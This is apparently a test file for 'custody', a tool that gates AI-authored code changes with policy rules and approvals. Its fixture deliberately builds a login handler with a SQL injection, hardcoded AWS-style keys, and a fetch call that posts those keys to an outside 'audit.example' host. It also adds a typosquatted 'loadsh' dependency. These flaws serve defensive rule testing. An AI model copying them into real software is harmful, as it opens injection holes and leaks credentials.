// The built-in rules on scripted changes, as `custody policy simulate` and `custody gate` show them:
// each rule fires with its explanation and evidence, and simulate says what would satisfy the decision
// and who may give it, with hypothetical approvals clearly marked.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { BUILTIN_RULES } from "../src/policy/index.js";
import type { Decision } from "../src/core/types.js";
import { fakeAccessKey } from "../src/cli/commands/demo-repo.js";
import { commitFiles } from "../src/git/index.js";
import { CLAUDE, DANA, cli, keyFile, KEYS, publicKey } from "./helpers/approvals.js";
import { tempDir, tempRepo } from "./helpers/git-repo.js";

const POLICY = `version: 1
tools:
  approved: [cursor]
groups:
  senior:
    members:
      - id: alice@example.com
        keys: ["${publicKey("alice")}"]
      - id: dana@example.com
        keys: ["${publicKey("dana")}"]
  security:
    members:
      - id: sec@example.com
        keys: ["${publicKey("sec")}"]
      - bob@example.com
`;

/** A credential-shaped pair derived at run time, so no key-like literal sits in the sources. */
function loginHandler(): string {
  const key = fakeAccessKey("policy scenario");
  return `import type { IncomingMessage, ServerResponse } from "node:http";
import { db } from "../db.js";

const AWS_ACCESS_KEY_ID = "${key.id}";
const AWS_SECRET_ACCESS_KEY = "${key.secret}";

export async function handleLogin(req: IncomingMessage, res: ServerResponse) {
  const url = new URL(req.url ?? "/", "http://localhost");
  const user = url.searchParams.get("user");
  const rows = await db.query(\`SELECT id FROM users WHERE name = '\${user}'\`);
  await fetch("https://audit.example/log", { method: "POST", body: JSON.stringify({ AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY, user }) });
  res.writeHead(rows.length > 0 ? 200 : 401).end();
}
`;
}

function explanation(name: string): string {
  const rule = BUILTIN_RULES.find((r) => r.name === name);
  assert.ok(rule, `no built-in rule ${name}`);
  return rule.explain;
}

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}

async function setup(t: Parameters<typeof tempRepo>[0], files: Record<string, string>, trailer = CLAUDE) {
  const repo = await tempRepo(t);
  const cache = await tempDir(t, "custody-cache-");
  const base = await commitFiles(repo, {
    message: "init",
    author: DANA,
    files: { ".custody/policy.yaml": POLICY, "src/db.ts": "export const db = { query: async (_sql: string) => [] as unknown[] };\n" },
  });
  const head = await commitFiles(repo, { message: `Change\n\n${trailer}`, author: DANA, files });
  return { repo, cache, base, head, custody: cli(cache) };
}

const EVERY_RULE = [
  ["critical-finding", "block", /sast\/js-sql-injection at src\/auth\/login\.ts:\d+/],
  ["secret-detected", "escalate", /secrets\/[a-z0-9-]+ at src\/auth\/login\.ts:\d+/],
  ["ai-in-critical-path", "review", /src\/auth\/login\.ts \(\d+ AI lines\)/],
  ["ai-auth-change", "review", /src\/auth\/login\.ts \(\d+ AI lines\)/],
  ["unapproved-tool", "block", /claude-code/],
  ["agent-config-change", "review", /CLAUDE\.md \(added\)/],
  ["risky-dependency", "escalate", /loadsh/],
] as const;

describe("built-in rules in policy simulate and gate", () => {
  it("fires every built-in rule on one change, with its explanation and evidence, in both commands", async (t) => {
    const s = await setup(t, {
      "src/auth/login.ts": loginHandler(),
      "CLAUDE.md": "# Project notes\n\nRun the tests before committing.\n",
      "package.json": JSON.stringify({ name: "app", version: "1.0.0", dependencies: { loadsh: "^4.17.21" } }, null, 2),
    });
    const simulated = await s.custody(s.repo, "policy", "simulate", "--change", `${s.base}..${s.head}`, "--offline", "--format", "text", "--approve", "sec@example.com", "alice@example.com");
    assert.equal(simulated.status, 0, simulated.stderr);
    const gated = await s.custody(s.repo, "gate", "--base", s.base, "--head", s.head, "--offline", "--format", "text", "--no-record");
    assert.equal(gated.status, 1, gated.stderr);
    for (const [output, label] of [[simulated.stdout, "simulate"], [gated.stdout, "gate"]] as const) {
      for (const [name, outcome, evidence] of EVERY_RULE) {
        const reason = new RegExp(`\\[${outcome}\\] ${name}: ${escape(explanation(name))}\\n((?: {6}- .*\\n)+)`).exec(output);
        assert.ok(reason, `${label}: ${name} with its explanation\n${output}`);
        assert.match(reason[1] ?? "", evidence, `${label}: evidence of ${name}`);
      }
    }
    assert.match(simulated.stdout, /^Simulation \(nothing recorded\) of change [0-9a-f]{12}/);
    assert.match(simulated.stdout, /Outcome: BLOCKED {3}risk \d+\/100\n\nRisk factors:\n {2}ai-share: 1 → \d+ point\(s\)/);
    assert.match(simulated.stdout, /security: 1 approval\(s\) from distinct members of security \(asked for by [^)]*ai-auth-change[^)]*agent-config-change[^)]*\)\n {6}eligible: sec@example\.com\n {6}no key in the policy \(cannot sign yet\): bob@example\.com/);
    assert.match(simulated.stdout, /senior: 1 approval\(s\) from distinct members of senior \(asked for by ai-in-critical-path\)\n {6}eligible: alice@example\.com\n {6}never counts: dana@example\.com \(author of the change: dana@example\.com wrote part of it\)/);
    assert.match(simulated.stdout, /Blocked: fix what the blocking rules name, or a member of security signs an override with a justification\./);
    assert.match(simulated.stdout, /Hypothetical — as if sec@example\.com, alice@example\.com approved \(unsigned, not recorded\):\n {2}security: satisfied by sec@example\.com \(1 of 1\)\n {2}senior: satisfied by alice@example\.com \(1 of 1\)\n {2}→ the gate would still not pass \(exit 1\)/);
  });

  it("says who can satisfy a security review, and that the author's approval would not count", async (t) => {
    const files = { "src/session.js": "export function touch(session) {\n  session.seen = Date.now();\n}\n", "AGENTS.md": "# Agents\n\nKeep changes small.\n" };
    const s = await setup(t, files, "Co-authored-by: Cursor <cursoragent@cursor.com>");
    const range = `${s.base}..${s.head}`;
    const json = await s.custody(s.repo, "policy", "simulate", "--change", range, "--offline", "--format", "json", "--approve", "dana@example.com");
    assert.equal(json.status, 0, json.stderr);
    const out = JSON.parse(json.stdout) as {
      note: string;
      decision: Decision;
      rules: { fired: { ruleName: string }[]; notFired: string[] };
      plan: { requirements: { group: string; count: number; rules: string[]; eligible: string[]; unreachable?: string }[] };
      hypothetical: { satisfied: boolean; problems: string[] };
    };
    assert.equal(out.note, "simulation: nothing was recorded");
    assert.deepEqual(out.rules.fired.map((r) => r.ruleName), ["ai-auth-change", "agent-config-change"]);
    assert.ok(out.rules.notFired.includes("ai-in-critical-path"));
    assert.deepEqual(out.plan.requirements.map((r) => [r.group, r.count, r.rules, r.eligible]), [["security", 1, ["ai-auth-change", "agent-config-change"], ["sec@example.com"]]]);
    assert.equal(out.hypothetical.satisfied, false);
    assert.deepEqual(out.hypothetical.problems, ["a hypothetical approval by dana@example.com would not count: author of the change: dana@example.com wrote part of it"]);

    const withSec = await s.custody(s.repo, "policy", "simulate", "--change", range, "--offline", "--format", "text", "--approve", "sec@example.com");
    assert.match(withSec.stdout, /→ the gate would pass \(exit 0\) — approvals satisfied/);

    const gate = await s.custody(s.repo, "gate", "--base", s.base, "--head", s.head, "--offline", "--format", "text");
    assert.equal(gate.status, 1);
    assert.match(gate.stdout, new RegExp(`\\[review\\] ai-auth-change: ${escape(explanation("ai-auth-change"))}\\n {6}- src/session\\.js \\(3 AI lines\\)`));
    assert.match(gate.stdout, /security: still open: 1 more from security \(0 of 1\)/);
    const key = await keyFile(s.cache, "sec", KEYS.sec);
    assert.equal((await s.custody(s.repo, "approve", range, "--verdict", "approve", "--key", key)).status, 0);
    const approved = await s.custody(s.repo, "gate", "--base", s.base, "--head", s.head, "--offline", "--format", "text", "--no-record");
    assert.equal(approved.status, 0, approved.stdout);
    assert.match(approved.stdout, /security: satisfied by sec@example\.com \(1 of 1\)/);
  });
});
